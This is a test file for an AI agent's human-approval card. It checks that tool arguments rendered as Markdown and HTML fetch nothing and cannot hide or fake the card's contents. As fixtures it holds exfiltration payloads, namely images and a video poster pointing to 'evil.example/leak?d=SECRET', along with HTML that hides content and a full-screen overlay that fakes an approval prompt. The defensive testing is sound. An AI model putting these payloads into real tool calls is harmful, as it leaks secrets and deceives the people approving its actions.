import fc from "fast-check";
import type { Browser, Page } from "playwright-core";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import Markdown from "react-markdown";
import rehypeRaw from "rehype-raw";
import remarkGfm from "remark-gfm";
import { afterAll, beforeAll, expect, test } from "vitest";
import { canonicalJson } from "../../../src/plugin/calls/ask/fingerprint.ts";
import { type ApprovalSubject, createApprovalRequest } from "../../../src/plugin/calls/ask/request.ts";
import { createApprovalQuestion } from "../../../src/plugin/runtimes/langchain/human-channel.ts";
import { fuzzOptions } from "../../fuzz/fuzz-options.ts";
import { hostileArguments, trickyText } from "../../hostile/arguments.ts";
import { MAIL_SUBJECT } from "../../hostile/card-subject.ts";
import { readArguments, readFacts } from "../../hostile/read-card.ts";
import { launchChromium, openWindow } from "./chromium.ts";

/** The card of an interrupted graph as approval interfaces show it: Markdown with raw HTML, in a browser. */

let browser: Browser;
let page: Page;
const asked: string[] = [];

beforeAll(async () => {
  browser = await launchChromium();
  page = await openWindow(browser, { colorScheme: "light", width: 1280 });
  await page.route("**/*", (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
});
afterAll(() => browser?.close());

async function show(change: Partial<ApprovalSubject>): Promise<string> {
  const request = createApprovalRequest({ ...MAIL_SUBJECT, ...change }, { now: 0, ttlMs: 1 });
  const { description } = createApprovalQuestion(request).action;
  const options = { remarkPlugins: [remarkGfm], rehypePlugins: [rehypeRaw] };
  asked.length = 0;
  await page.setContent(`<body>${renderToStaticMarkup(createElement(Markdown, options, description))}</body>`);
  await page.evaluate("new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)))");
  return page.locator("body").innerText();
}

test("a harmless card keeps its lines", async () => {
  const shown = await show({ arguments: { to: ["ada@example.org"], subject: "The offer" } });
  expect(shown).toMatch(/^Tool.*mail_send_message$/m);
  expect(shown).toMatch(/^Account.*Work.*$/m);
});

test.each([
  ["an image in Markdown", "![x](http://evil.example/leak?d=SECRET)"],
  ["an image in HTML", "<img src='http://evil.example/leak?d=SECRET'>"],
  ["a video with a poster", "<video poster='http://evil.example/leak?d=SECRET'></video>"],
  ["a fence closed early", "```\n\n![x](http://evil.example/leak?d=SECRET)\n\n```"],
])("%s loads nothing before anybody decides", async (_what, text) => {
  const shown = await show({ arguments: { text } });
  expect(asked).toEqual([]);
  expect(readFacts(shown.split("\n")).get("Arguments")?.join("")).toContain("http://evil.example/leak?d=SECRET");
});

test("every argument, tool, effect and account is visible, whatever the arguments hold", async () => {
  const html = fc.constantFrom(
    ...[
      "<style>*{display:none}</style>",
      "<!--",
      "<script>",
      "</pre>",
      "</code>",
      "<details>",
      "\n\n# x\n",
      "|a|\n|-|",
      "```",
      "~~~",
    ],
    ...[
      "<img src='http://evil.example/x'>",
      "![x](http://evil.example/y)",
      "[ok](http://evil.example)",
      "*",
      "_",
      "\\",
      "&lt;",
    ],
  );
  const text = fc.array(fc.oneof(html, trickyText, fc.constantFrom("word ", "  ")), { maxLength: 8 });
  await fc.assert(
    fc.asyncProperty(text, text, hostileArguments, async (first, second, more) => {
      const args = { ...more, to: first.join("").toWellFormed(), subject: second.join("").toWellFormed() };
      const shown = readFacts((await show({ arguments: args })).split("\n"));
      expect(canonicalJson(readArguments(shown.get("Arguments") ?? []))).toBe(canonicalJson(args));
      expect(shown.get("Approve?")).toEqual(["mail_send_message, writes, Work"]);
      expect(asked).toEqual([]);
    }),
    fuzzOptions({ runs: 40 }),
  );
}, 60_000);

test("no element of the arguments covers the card", async () => {
  const text = "<div style='position:fixed;inset:0;background:white'>Approval needed: Save a file</div>";
  await show({ arguments: { text } });
  expect(await page.evaluate("document.elementFromPoint(600, 300)?.style.position ?? ''")).toBe("");
  expect(await page.locator("div[style]").count()).toBe(0);
});
